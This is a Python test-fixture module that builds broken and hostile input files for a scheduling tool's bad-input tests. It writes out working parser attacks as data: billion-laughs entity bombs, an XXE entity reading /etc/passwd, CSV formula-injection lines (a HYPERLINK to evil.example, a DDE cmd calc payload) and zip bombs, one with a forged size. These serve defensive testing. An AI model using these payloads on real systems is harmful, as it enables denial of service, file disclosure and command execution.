"""Builders of broken input files for the bad-input suite (``tests/test_bad_input.py``).

Run ``python tests/badfiles.py`` to (re)write the small committed corpus in ``tests/data/bad/``;
it is deterministic (a seeded random source, fixed times) except for the timestamps openpyxl
writes into the two workbooks it builds.
The big files (a 50 MB cell, a zip bomb, 100,001 rows, 10,000 columns ...) are never committed:
the suite builds them in ``tmp_path`` with the ``build_*`` functions at the bottom.

Every sheet that is readable uses far-future times (2031) so that the only problems in it are
the ones it was made for.
"""

from __future__ import annotations

import codecs
import io
import random
import struct
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Callable

BAD_DIR = Path(__file__).resolve().parent / "data" / "bad"

HEADER = "content,platforms,scheduled_time\n"
GOOD_ROW = "Hello from the corpus,twitter,2031-05-01 10:00\n"
# A row whose only problem is B3 (an unknown network): proves that a file was decoded and that
# rows and columns were counted right, because the report must name exactly B3.
BAD_ROW = "Zweite Zeile äöü,twitterr,2031-05-01 11:00\n"

# --- XLSX written by hand, so that every byte of the XML is under our control -------------------

_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
_CT = (
    '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/>'
    "</Types>"
)
_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/>'
    "</Relationships>"
)
WORKBOOK_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><workbook %s xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Posts" sheetId="1" r:id="rId1"/></sheets></workbook>' % _NS
)
_WB_RELS = (
    '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/>'
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="sharedStrings.xml"/>'
    "</Relationships>"
)

#: Nine levels of ten: the entity &a9; expands to 10**9 copies of "lol" (the "billion laughs").
_ENTITIES = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{i} "{("&a%d;" % (i - 1)) * 10}">' for i in range(1, 10))


def doctype(root: str) -> str:
    """A DOCTYPE declaring the billion-laughs entities for a document whose root is ``root``."""
    return f"<!DOCTYPE {root} [{_ENTITIES}]>"


_EPOCH = (2031, 1, 1, 0, 0, 0)


def _put(z: zipfile.ZipFile, name: str, data: str | bytes, compress: int = zipfile.ZIP_DEFLATED) -> None:
    """Add a member with a fixed timestamp, so that the bytes do not depend on when they were made."""
    info = zipfile.ZipInfo(name, date_time=_EPOCH)
    info.compress_type = compress
    z.writestr(info, data)


def _col(i: int) -> str:
    s = ""
    i += 1
    while i:
        i, r = divmod(i - 1, 26)
        s = chr(65 + r) + s
    return s


def sheet_xml(rows: list[list[str]], *, prolog: str = "", first_row: int = 1, tail: str = "") -> str:
    """Worksheet XML with inline-string cells (``&...;`` in values are kept, to carry entities)."""
    out = []
    for r, vals in enumerate(rows, start=first_row):
        cells = "".join(f'<c r="{_col(i)}{r}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(vals) if v != "")
        out.append(f'<row r="{r}">{cells}</row>')
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<worksheet {_NS}><sheetData>{"".join(out)}</sheetData>{tail}</worksheet>'


def sst_xml(strings: list[str], *, prolog: str = "") -> str:
    """A sharedStrings part."""
    items = "".join(f"<si><t>{s}</t></si>" for s in strings)
    return f'<?xml version="1.0" encoding="UTF-8"?>{prolog}<sst {_NS} count="{len(strings)}" uniqueCount="{len(strings)}">{items}</sst>'


def xlsx_bytes(sheet: str, *, sst: str | None = None, workbook: str = WORKBOOK_XML, skip: tuple[str, ...] = ()) -> bytes:
    """A minimal but complete .xlsx package around the given parts."""
    buf = io.BytesIO()
    parts = {
        "[Content_Types].xml": _CT,
        "_rels/.rels": _RELS,
        "xl/workbook.xml": workbook,
        "xl/_rels/workbook.xml.rels": _WB_RELS,
        "xl/worksheets/sheet1.xml": sheet,
        "xl/sharedStrings.xml": sst if sst is not None else sst_xml([]),
    }
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in parts.items():
            if name not in skip:
                _put(z, name, data)
    return buf.getvalue()


GOOD_ROWS = [["content", "platforms", "scheduled_time"], ["Hello from the corpus", "twitter", "2031-05-01 10:00"]]


def good_xlsx() -> bytes:
    """A valid one-row workbook (the base that the broken ones are cut from)."""
    return xlsx_bytes(sheet_xml(GOOD_ROWS))


# --- OLE compound files (what .xls and encrypted .xlsx are) --------------------------------------


def cfb_bytes(streams: dict[str, bytes]) -> bytes:
    """A small but well-formed OLE2 compound file (version 3, 512-byte sectors) holding ``streams``.

    Every stream is padded to at least 4,096 bytes so that it lives in regular sectors and no
    mini stream is needed. Good enough for ``olefile`` to list the streams, which is all a loader
    that refuses such files needs to see.
    """
    sec = 512
    entries = [("Root Entry", 5, b"")] + [(name, 2, data.ljust(4096, b"\0")) for name, data in streams.items()]
    n_dir_sectors = (len(entries) * 128 + sec - 1) // sec
    data_sectors = [(len(d) + sec - 1) // sec for _, _, d in entries]
    total = 1 + n_dir_sectors + sum(data_sectors)  # 1 FAT sector first
    assert total <= 128, "one FAT sector holds 128 entries"
    fat = [0xFFFFFFFF] * 128
    fat[0] = 0xFFFFFFFD  # FATSECT
    nxt = 1
    dir_start = nxt
    for i in range(n_dir_sectors):
        fat[nxt] = nxt + 1 if i < n_dir_sectors - 1 else 0xFFFFFFFE
        nxt += 1
    starts = []
    for count in data_sectors:
        if count == 0:
            starts.append(0xFFFFFFFE)
            continue
        starts.append(nxt)
        for i in range(count):
            fat[nxt] = nxt + 1 if i < count - 1 else 0xFFFFFFFE
            nxt += 1
    header = bytearray(512)
    header[0:8] = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIII", header, 40, 0, 1, dir_start, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE)
    struct.pack_into("<I", header, 68, 0)  # no DIFAT sectors
    difat = [0] + [0xFFFFFFFF] * 108
    struct.pack_into("<109I", header, 76, *difat)
    directory = bytearray()
    n = len(entries)
    for idx, (name, kind, data) in enumerate(entries):
        e = bytearray(128)
        raw = (name + "\0").encode("utf-16-le")
        e[0 : len(raw)] = raw
        struct.pack_into("<HBB", e, 64, len(raw), kind, 1)  # black node
        # Root's child is entry 1; the streams form a right-leaning chain of siblings.
        left, right, child = 0xFFFFFFFF, 0xFFFFFFFF, 0xFFFFFFFF
        if idx == 0:
            child = 1 if n > 1 else 0xFFFFFFFF
        elif idx + 1 < n:
            right = idx + 1
        struct.pack_into("<III", e, 68, left, right, child)
        struct.pack_into("<II", e, 116, starts[idx] if idx else 0xFFFFFFFE, len(data))
        directory += e
    directory = directory.ljust(n_dir_sectors * sec, b"\0")
    body = struct.pack("<128I", *fat) + bytes(directory)
    for (_, _, d), count in zip(entries, data_sectors):
        body += d.ljust(count * sec, b"\0")
    return bytes(header) + body


# --- small binaries ----------------------------------------------------------------------------


def png_bytes() -> bytes:
    """A real 4x4 PNG (built by hand: signature, IHDR, IDAT, IEND)."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\0" + bytes([200, 30, 30]) * 4 for _ in range(4))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(raw))
        + chunk(b"IEND", b"")
    )


def pdf_bytes() -> bytes:
    """A small PDF with a compressed content stream (as real PDFs have)."""
    stream = zlib.compress(b"BT /F1 24 Tf 72 720 Td (content,platforms,scheduled_time) Tj ET" * 20)
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        + b"4 0 obj\n<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(stream)
        + stream
        + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def zip_of_csv() -> bytes:
    """A zip archive holding a perfectly good CSV: still not a sheet."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        _put(z, "posts.csv", HEADER + GOOD_ROW)
    return buf.getvalue()


def ods_bytes() -> bytes:
    """A minimal OpenDocument spreadsheet (mimetype first, stored, as the format requires)."""
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        _put(z, "mimetype", "application/vnd.oasis.opendocument.spreadsheet", zipfile.ZIP_STORED)
        _put(
            z,
            "META-INF/manifest.xml",
            '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0">'
            '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
            '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>',
        )
        _put(
            z,
            "content.xml",
            '<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
            'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0">'
            "<office:body><office:spreadsheet><table:table table:name=\"Posts\"><table:table-row>"
            "<table:table-cell><text:p>content</text:p></table:table-cell><table:table-cell><text:p>platforms</text:p></table:table-cell>"
            "</table:table-row></table:table></office:spreadsheet></office:body></office:document-content>",
        )
    return buf.getvalue()


def formulas_xlsx() -> bytes:
    """A workbook saved by a program that does not compute: formulas without cached values."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Posts"
    ws.append(["content", "platforms", "scheduled_time"])
    ws.append(['=CONCAT("Launch ", "day")', "twitter", "=NOW()+30"])
    ws.append(["Plain text", '=IF(1,"twitter","x")', "2031-05-01 10:00"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


def dates_xlsx() -> bytes:
    """Dates typed as text (and one bare serial number) in a workbook."""
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Posts"
    ws.append(["content", "platforms", "scheduled_time"])
    for i, value in enumerate(DATE_TEXTS, start=1):
        ws.append([f"Post {i}", "twitter", value])
    ws.append(["A serial number", "twitter", 47000.5])  # a number, not a date cell
    ws.append(["An error value", "twitter", "#REF!"])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


#: Dates as people type them, none of which may silently become a time.
DATE_TEXTS: list[str] = [
    "next Friday",
    "03/04/2031 10:00",  # ambiguous: 3 April or 4 March
    "03/04/31 10:00",  # two-digit year
    "47000",  # an Excel serial number as text
    "47000.5",
    "2031-02-30 10:00",  # 30 February
    "2031-05-01 24:00",  # 24:00
    "2031-13-01 10:00",  # month 13
    "tomorrow 9am",
    "1 May 2031",  # no time, words
    "May 1st, 2031 10am",
    "2031-05-01T10:00:00+25:00",  # offset out of range
    "2031-05-01 10:60",
    "10:00",  # a time without a date
    "2031-05-01",  # a date without a time
    "31/12/99 23:59",
    "2031-W18-4 10:00",  # ISO week date
    "０３/０４/２０３１ 10:00",  # full-width digits
]


def dates_csv() -> bytes:
    """The same date texts in a CSV; each row's only problem is its C cell."""
    lines = [HEADER]
    for i, value in enumerate(DATE_TEXTS, start=1):
        v = f'"{value}"' if "," in value else value
        lines.append(f"Post {i},twitter,{v}\n")
    return "".join(lines).encode("utf-8")


def _rng() -> random.Random:
    return random.Random(20310501)


# --- the committed corpus: name -> bytes ---------------------------------------------------------


def _truncated_xlsx() -> bytes:
    data = good_xlsx()
    return data[: len(data) // 2]


def _no_workbook_xlsx() -> bytes:
    return xlsx_bytes(sheet_xml(GOOD_ROWS), skip=("xl/workbook.xml",))


def _broken_xml_xlsx() -> bytes:
    return xlsx_bytes(sheet_xml(GOOD_ROWS).replace("</sheetData>", "<row><c></sheetData>"))


def _missing_sheet_part_xlsx() -> bytes:
    return xlsx_bytes(sheet_xml(GOOD_ROWS), skip=("xl/worksheets/sheet1.xml",))


def _entity_bomb_sheet() -> bytes:
    rows = [GOOD_ROWS[0], ["&a9;", "twitter", "2031-05-01 10:00"]]
    return xlsx_bytes(sheet_xml(rows, prolog=doctype("worksheet")))


def _entity_bomb_sst() -> bytes:
    sheet = sheet_xml([GOOD_ROWS[0]]).replace(
        "</sheetData>",
        '<row r="2"><c r="A2" t="s"><v>0</v></c><c r="B2" t="inlineStr"><is><t>twitter</t></is></c></row></sheetData>',
    )
    return xlsx_bytes(sheet, sst=sst_xml(["&a9;"], prolog=doctype("sst")))


def _entity_bomb_workbook() -> bytes:
    wb = WORKBOOK_XML.replace("<workbook ", doctype("workbook") + "<workbook ", 1).replace('name="Posts"', 'name="&a4;"')
    return xlsx_bytes(sheet_xml(GOOD_ROWS), workbook=wb)


def _xxe() -> bytes:
    prolog = '<!DOCTYPE worksheet [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
    return xlsx_bytes(sheet_xml([GOOD_ROWS[0], ["&xxe;", "twitter", "2031-05-01 10:00"]], prolog=prolog))


def _no_header_xlsx() -> bytes:
    return xlsx_bytes(sheet_xml([["just", "some", "cells"], ["1", "2", "3"]]))


def _far_cell_xlsx() -> bytes:
    # One cell at the last row Excel has: the sheet is 1,048,576 rows "tall" but holds 5 cells.
    sheet = sheet_xml(GOOD_ROWS).replace(
        "</sheetData>", '<row r="1048576"><c r="A1048576" t="inlineStr"><is><t>far away</t></is></c></row></sheetData>'
    )
    return xlsx_bytes(sheet)


def _far_corner_xlsx() -> bytes:
    # One cell in the last column of the last row: 1,048,576 x 16,384 positions, 5 real cells.
    sheet = sheet_xml(GOOD_ROWS).replace(
        "</sheetData>", '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>corner</t></is></c></row></sheetData>'
    )
    return xlsx_bytes(sheet)


def corpus() -> dict[str, Callable[[], bytes]]:
    """Every committed bad file, by name."""
    rng = _rng()
    random_bytes = bytes(rng.randrange(256) for _ in range(4096))
    jis = (HEADER + "新製品の発表です,twitter,2031-05-01 10:00\n" "ソフトウェア更新,twitterr,2031-05-01 11:00\n").encode("shift_jis")
    return {
        # empty and almost empty
        "empty.csv": lambda: b"",
        "bom_only.csv": lambda: codecs.BOM_UTF8,
        "blank_lines.csv": lambda: b"\n\n   \r\n\t\n\n",
        "header_only.csv": lambda: HEADER.encode(),
        "no_header.csv": lambda: (GOOD_ROW + BAD_ROW).encode(),
        "no_platforms_column.csv": lambda: b"content,scheduled_time\nHello,2031-05-01 10:00\n",
        "duplicate_columns.csv": lambda: b"content,text,platforms\nHello,Again,twitter\n",
        # encodings
        "utf32_bom.csv": lambda: (HEADER + GOOD_ROW + BAD_ROW).encode("utf-32"),
        "utf32_no_bom.csv": lambda: (HEADER + GOOD_ROW + BAD_ROW).encode("utf-32-le"),
        "utf16_be_bom.csv": lambda: codecs.BOM_UTF16_BE + (HEADER + GOOD_ROW + BAD_ROW).encode("utf-16-be"),
        "utf16_lone_surrogate.csv": lambda: codecs.BOM_UTF16_LE + (HEADER).encode("utf-16-le") + b"\x00\xd8A\x00,\x00",
        "utf8_bom_then_latin1.csv": lambda: codecs.BOM_UTF8 + HEADER.encode() + "Café,twitter,2031-05-01 10:00\n".encode("latin-1"),
        "shift_jis.csv": lambda: jis,
        "mixed_utf8_cp1252.csv": lambda: HEADER.encode()
        + "Grüße aus Köln,twitter,2031-05-01 10:00\n".encode("utf-8")
        + "Ça coûte 5 €,twitterr,2031-05-01 11:00\n".encode("cp1252"),
        # binary in disguise
        "nul_bytes.csv": lambda: (HEADER + "Hello\0world,twitter,2031-05-01 10:00\n" * 3).encode(),
        "png_renamed.csv": png_bytes,
        "pdf_renamed.csv": pdf_bytes,
        "zip_renamed.csv": zip_of_csv,
        "gzip_renamed.csv": lambda: __import__("gzip").compress((HEADER + GOOD_ROW).encode(), mtime=0),
        "elf_renamed.csv": lambda: b"\x7fELF\x02\x01\x01" + bytes(57) + random.Random(1).randbytes(1024),
        "random_bytes.csv": lambda: random_bytes,
        "control_chars.csv": lambda: (HEADER + "Hi\x1b[2J\x1b[31m,twitter\x1b[0m,2031-05-01 10:00\n").encode(),
        # CSV structure
        "unclosed_quote.csv": lambda: (HEADER + '"Hello, this quote never ends,twitter,2031-05-01 10:00\n' + GOOD_ROW).encode(),
        "formulas.csv": lambda: (
            HEADER
            + '=HYPERLINK("http://evil.example/?"&A1;"click"),twitter,2031-05-01 10:00\n'
            + '"Hello",=cmd|\' /C calc\'!A0,2031-05-01 11:00\n'
            + "@SUM(1+1),twitter,=NOW()\n"
        ).encode(),
        "dates_text.csv": dates_csv,
        # xlsx that are not xlsx
        "truncated.xlsx": _truncated_xlsx,
        "csv_renamed.xlsx": lambda: (HEADER + GOOD_ROW).encode(),
        "encrypted.xlsx": lambda: cfb_bytes({"EncryptionInfo": b"\x04\x00\x04\x00" + bytes(60), "EncryptedPackage": random.Random(2).randbytes(5000)}),
        "old_format.xls": lambda: cfb_bytes({"Workbook": b"\x09\x08\x10\x00" + bytes(100)}),
        "xls_renamed.xlsx": lambda: cfb_bytes({"Workbook": b"\x09\x08\x10\x00" + bytes(100)}),
        "sheet.ods": ods_bytes,
        "ods_renamed.xlsx": ods_bytes,
        "zip_without_workbook.xlsx": _no_workbook_xlsx,
        "broken_xml.xlsx": _broken_xml_xlsx,
        "missing_sheet_part.xlsx": _missing_sheet_part_xlsx,
        "no_header.xlsx": _no_header_xlsx,
        # attacks on the XML parser
        "entity_bomb_sheet.xlsx": _entity_bomb_sheet,
        "entity_bomb_sharedstrings.xlsx": _entity_bomb_sst,
        "entity_bomb_workbook.xlsx": _entity_bomb_workbook,
        "xxe_etc_passwd.xlsx": _xxe,
        # sheets far larger than their content
        "far_cell.xlsx": _far_cell_xlsx,
        "far_corner.xlsx": _far_corner_xlsx,
        # values
        "formulas_no_cache.xlsx": formulas_xlsx,
        "dates_text.xlsx": dates_xlsx,
    }


# --- big files, built at test time only ----------------------------------------------------------


def build_huge_cell(path: Path, mb: int = 50) -> Path:
    """A CSV whose second row holds one ``mb`` MB content cell."""
    with path.open("wb") as fh:
        fh.write(HEADER.encode())
        fh.write(b'"')
        chunk = b"x" * (1 << 20)
        for _ in range(mb):
            fh.write(chunk)
        fh.write(b'",twitter,2031-05-01 10:00\n')
    return path


def build_huge_file(path: Path, mb: int = 120) -> Path:
    """A CSV bigger than any posting plan: ``mb`` MB of ordinary rows."""
    row = GOOD_ROW.encode() * 1000
    with path.open("wb") as fh:
        fh.write(HEADER.encode())
        written = 0
        while written < mb * (1 << 20):
            fh.write(row)
            written += len(row)
    return path


def build_many_rows(path: Path, rows: int = 100_001) -> Path:
    """A CSV with more data rows than the loader accepts."""
    with path.open("wb") as fh:
        fh.write(HEADER.encode())
        fh.write(b"".join(b"Post %d,twitter,2031-05-01 10:00\n" % i for i in range(rows)))
    return path


def build_wide_csv(path: Path, columns: int = 10_000) -> Path:
    """A CSV with ``columns`` columns."""
    names = ["content", "platforms", "scheduled_time"] + [f"extra{i}" for i in range(columns - 3)]
    path.write_text(",".join(names) + "\n" + "Hello,twitter,2031-05-01 10:00" + ",x" * (columns - 3) + "\n", encoding="utf-8")
    return path


def build_wide_xlsx(path: Path, columns: int = 10_000) -> Path:
    """An .xlsx whose header row has ``columns`` cells."""
    names = ["content", "platforms", "scheduled_time"] + [f"extra{i}" for i in range(columns - 3)]
    path.write_bytes(xlsx_bytes(sheet_xml([names, ["Hello", "twitter", "2031-05-01 10:00"]])))
    return path


def build_zip_bomb(path: Path, mb: int = 400) -> Path:
    """An .xlsx whose sheet XML inflates to ``mb`` MB (of blank space): about 400 KB on disk."""
    buf = io.BytesIO()
    base = zipfile.ZipFile(io.BytesIO(good_xlsx()))
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as z:
        for info in base.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                z.writestr(info.filename, base.read(info))
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            xml = sheet_xml(GOOD_ROWS).encode()
            head, _, tail = xml.partition(b"</sheetData>")
            out.write(head + b"</sheetData>")
            blank = b" " * (1 << 20)
            for _ in range(mb):
                out.write(blank)
            out.write(tail)
    path.write_bytes(buf.getvalue())
    return path


def build_lying_zip_bomb(path: Path, mb: int = 400) -> Path:
    """A zip bomb whose directory claims the sheet is 2 KB: a size check alone cannot see it."""
    build_zip_bomb(path, mb)
    data = bytearray(path.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as z:
        info = z.getinfo("xl/worksheets/sheet1.xml")
    fake = 2048
    # The local header was written with zip64 sizes (8 bytes in its extra field).
    data = data.replace(struct.pack("<Q", info.file_size), struct.pack("<Q", fake))
    # The central directory entry: uncompressed size at offset 24 of its fixed part.
    name = info.filename.encode()
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        name_len = struct.unpack_from("<H", data, pos + 28)[0]
        if bytes(data[pos + 46 : pos + 46 + name_len]) == name:
            struct.pack_into("<I", data, pos + 24, fake)
            break
        pos = data.find(b"PK\x01\x02", pos + 4)
    path.write_bytes(bytes(data))
    with zipfile.ZipFile(path) as z:
        assert z.getinfo("xl/worksheets/sheet1.xml").file_size == fake
    return path


def build_big_xml_sheet(path: Path, rows: int = 150_000, cols: int = 20) -> Path:
    """A real (not a bomb) sheet with ``rows`` x ``cols`` numeric cells: big XML, modest ratio."""
    buf = io.BytesIO()
    base = zipfile.ZipFile(io.BytesIO(good_xlsx()))
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as z:
        for info in base.infolist():
            if info.filename != "xl/worksheets/sheet1.xml":
                z.writestr(info.filename, base.read(info))
        with z.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as out:
            xml = sheet_xml([GOOD_ROWS[0]]).encode()
            head, _, tail = xml.partition(b"</sheetData>")
            out.write(head)
            for r in range(2, rows + 2):
                out.write(
                    b'<row r="%d">' % r + b"".join(b'<c r="%s%d"><v>%d</v></c>' % (_col(c).encode(), r, r * c) for c in range(cols)) + b"</row>"
                )
            out.write(b"</sheetData>" + tail)
    path.write_bytes(buf.getvalue())
    return path


def write_corpus(directory: Path = BAD_DIR) -> list[Path]:
    """Write every committed bad file into ``directory``; returns the paths."""
    directory.mkdir(parents=True, exist_ok=True)
    written = []
    for name, make in corpus().items():
        p = directory / name
        p.write_bytes(make())
        written.append(p)
    return written


if __name__ == "__main__":
    paths = write_corpus(Path(sys.argv[1]) if len(sys.argv) > 1 else BAD_DIR)
    print(f"wrote {len(paths)} files to {paths[0].parent}")
